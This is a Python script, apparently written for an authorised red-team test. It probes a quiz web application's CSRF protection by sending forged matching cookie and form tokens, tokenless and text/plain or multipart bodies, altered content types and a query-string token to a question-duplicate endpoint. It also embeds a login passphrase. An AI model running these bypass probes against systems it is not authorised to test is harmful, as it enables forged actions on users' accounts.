from br import *
import requests
PW="Red-team-passphrase-9931"
s=login("teach1",PW)
print("real token", csrf(s), len(csrf(s) or ""))
def post(path, data, ct=None, cookie_tok=None, extra=None):
    h={}
    if ct: h["Content-Type"]=ct
    if extra: h.update(extra)
    jar=requests.cookies.RequestsCookieJar()
    for c in s.cookies:
        if c.name=="quiz-csrf" and cookie_tok is not None: continue
        jar.set(c.name,c.value)
    if cookie_tok is not None: jar.set("quiz-csrf",cookie_tok)
    r=requests.post(B+path,data=data,headers=h,cookies=jar,allow_redirects=False)
    return r.status_code, r.headers.get("Location")
# create a class via page? use duplicate of question 378 (own draft) as harmless state change
print("forged token=cookie (arbitrary)", post("/teach/questions/378/duplicate", "csrf=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "application/x-www-form-urlencoded", cookie_tok="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"))
print("forged short", post("/teach/questions/378/duplicate", "csrf=x", "application/x-www-form-urlencoded", cookie_tok="x"))
print("no token form", post("/teach/questions/378/duplicate", "a=b", "application/x-www-form-urlencoded"))
print("no CT", post("/teach/questions/378/duplicate", None))
print("text/plain", post("/teach/questions/378/duplicate", "x", "text/plain"))
print("multipart no token", post("/teach/questions/378/duplicate", b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--b--\r\n', "multipart/form-data; boundary=b"))
print("form UPPER CT", post("/teach/questions/378/duplicate", "a=b", "APPLICATION/X-WWW-FORM-URLENCODED"))
print("form ct with params", post("/teach/questions/378/duplicate", "a=b", "application/x-www-form-urlencoded;charset=utf-8;x=y"))
print("token in query", post("/teach/questions/378/duplicate?csrf="+csrf(s), "a=b", "application/x-www-form-urlencoded"))
print("valid", post("/teach/questions/378/duplicate", "csrf="+csrf(s), "application/x-www-form-urlencoded"))
